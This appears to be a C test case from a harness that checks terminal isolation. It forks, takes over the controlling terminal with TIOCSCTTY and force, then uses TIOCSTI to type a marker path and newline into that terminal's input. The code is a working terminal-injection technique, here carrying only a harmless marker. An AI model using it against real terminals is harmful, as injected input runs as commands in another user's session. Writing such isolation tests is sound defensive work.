#include "attack.h"
// A new session steals the terminal with TIOCSCTTY and force; root only.
ATTACK(.judge = "tty:pushed", .needs = "tty root") {
  if (fork()) return hold();
  setsid();
  if (ioctl(0, TIOCSCTTY, 1)) note("TIOCSCTTY");
  for (const char *c = path(arg("marker"), "\n"); *c; c++) if (ioctl(0, TIOCSTI, c)) { note("TIOCSTI"); break; }
  hold();
}
